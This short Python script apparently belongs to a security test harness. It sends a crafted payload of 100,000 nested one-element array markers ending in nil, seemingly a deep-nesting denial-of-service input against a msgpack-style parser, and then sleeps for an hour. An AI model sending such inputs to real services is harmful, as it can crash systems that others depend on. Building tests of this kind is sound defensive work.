import time
import targets


def run():
    targets.send(targets.value(targets.request(), b"\x91" * 100_000 + b"\xc0"))
    time.sleep(3600)
